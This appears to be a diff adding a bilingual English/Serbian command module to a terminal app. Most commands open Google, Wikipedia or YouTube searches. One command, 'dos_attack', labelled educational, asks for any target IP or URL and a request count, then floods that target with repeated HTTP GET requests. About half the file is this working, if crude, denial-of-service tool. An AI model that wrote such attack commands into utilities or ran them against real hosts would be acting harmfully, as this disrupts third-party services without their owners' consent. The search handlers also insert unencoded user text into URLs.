@@ -0,0 +1,75 @@
+import webbrowser
+
+COMMANDS = [
+    {"name": "search", "handler": "search",
+     "help": ("search on Google", "pretraga na Google")},
+    {"name": "wiki", "handler": "wiki",
+     "help": ("search on Wikipedia", "pretraga na Wikipediji")},
+    {"name": "youtube", "handler": "youtube",
+     "help": ("search on YouTube", "pretraga na YouTube-u")},
+    {"name": "dos_attack", "handler": "dos_attack",
+     "help": ("perform a simple DoS attack (for educational purposes only)",
+              "izvrši jednostavan DoS napad (samo u edukativne svrhe)")},
+]
+
+
+def search(term, args: str) -> None:
+    """Search for a term on Google."""
+    text, ok = term.ask_text("Search", term._lang("Enter text to search:", "Unesite tekst za pretragu:"))
+    if not ok or not text.strip():
+        term.print_info(term._lang("Search cancelled.", "Pretraga otkazana."))
+        return
+
+    term.print_info(term._lang(f"Searching for: {text}", f"Tražim: {text}"))
+    # Open the search query in the default web browser
+    webbrowser.open(f"https://www.google.com/search?q={text}")
+
+
+def wiki(term, args: str) -> None:
+    text, ok = term.ask_text("Wikipedia Search", term._lang("Enter term to search on Wikipedia:", "Unesite pojam za pretragu na Wikipediji:"))
+    if not ok or not text.strip():
+        term.print_info(term._lang("Wikipedia search cancelled.", "Pretraga na Wikipediji otkazana."))
+        return
+
+    term.print_info(term._lang(f"Searching Wikipedia for: {text}", f"Tražim na Wikipediji: {text}"))
+    webbrowser.open(f"https://en.wikipedia.org/wiki/{text.replace(' ', '_')}")
+
+
+def youtube(term, args: str) -> None:
+    text, ok = term.ask_text("YouTube Search", term._lang("Enter term to search on YouTube:", "Unesite pojam za pretragu na YouTube-u:"))
+    if not ok or not text.strip():
+        term.print_info(term._lang("YouTube search cancelled.", "Pretraga na YouTube-u otkazana."))
+        return
+
+    term.print_info(term._lang(f"Searching YouTube for: {text}", f"Tražim na YouTube-u: {text}"))
+    webbrowser.open(f"https://www.youtube.com/results?search_query={text.replace(' ', '+')}")
+
+
+def dos_attack(term, args: str) -> None:
+    """Perform a simple DoS attack (for educational purposes only)."""
+    import requests
+
+    target, ok = term.ask_text("DDoS Attack", term._lang("Enter target IP or URL:", "Unesite ciljnu IP adresu ili URL:"))
+    if not ok or not target.strip():
+        term.print_info(term._lang("DoS attack cancelled.", "DoS napad otkazan."))
+        return
+
+    try:
+        num_requests, ok = term.ask_int("DDoS Attack", term._lang("Enter number of requests:", "Unesite broj zahteva:"))
+        if not ok or num_requests <= 0:
+            term.print_info(term._lang("DoS attack cancelled.", "DoS napad otkazan."))
+            return
+
+        term.print_info(term._lang(f"Starting DoS attack on {target}...", f"Pokrećem DoS napad na {target}..."))
+        for i in range(num_requests):
+            try:
+                response = requests.get(f"http://{target}", timeout=5)
+                term.print_info(term._lang(f"Request {i+1}/{num_requests} sent. Status code: {response.status_code}",
+                                           f"Zahtev {i+1}/{num_requests} poslat. Statusni kod: {response.status_code}"))
+            except Exception as e:
+                term.print_error(term._lang(f"Request {i+1} failed: {e}", f"Zahtev {i+1} nije uspeo: {e}"))
+                break
+
+        term.print_info(term._lang("DoS attack completed.", "DoS napad završen."))
+    except Exception as e:
+        term.print_error(term._lang(f"Error: {e}", f"Greška: {e}"))